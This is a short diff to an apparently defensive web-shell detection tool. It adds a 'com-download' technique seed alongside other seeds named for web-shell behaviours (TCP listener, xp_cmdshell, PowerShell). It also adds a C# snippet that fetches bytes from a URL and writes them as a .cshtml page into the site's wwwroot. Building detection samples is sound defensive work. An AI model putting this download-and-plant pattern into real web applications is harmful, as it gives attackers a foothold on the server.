@@ -36,10 +36,16 @@ from extriage.detections.webfiles import content
 CORE_SEEDS = (
     "pinvoke-process", "roslyn-script", "tcp-listener", "pipe-relay", "upload-app-root", "wmi-process",
     "reflected-load", "request-to-page", "sql-xp-cmdshell", "powershell", "process-program", "cmd-output",
-    "aes-load", "helper-load", "native-delegate",
+    "aes-load", "helper-load", "native-delegate", "com-download",
 )  # fmt: skip
 #: A Core spelling where the seed's first one is WebForms' own API.
 CORE_SPELLING: dict[str, Spelling] = {
+    # X13's COM download (XMLHTTP + ADODB.Stream.SaveToFile) as Core writes an outbound fetch into the site
+    "com-download": body(
+        "var h = new System.Net.Http.HttpClient();",
+        'File.WriteAllBytes(Path.Combine(AppContext.BaseDirectory, "wwwroot", "n.cshtml"), '
+        "h.GetByteArrayAsync({v}).Result);",
+    ),
     "upload-app-root": body(
         "using (var f = new FileStream(Path.Combine(AppContext.BaseDirectory, {v}), FileMode.Create)) "
         "Request.Form.Files[0].CopyTo(f);"
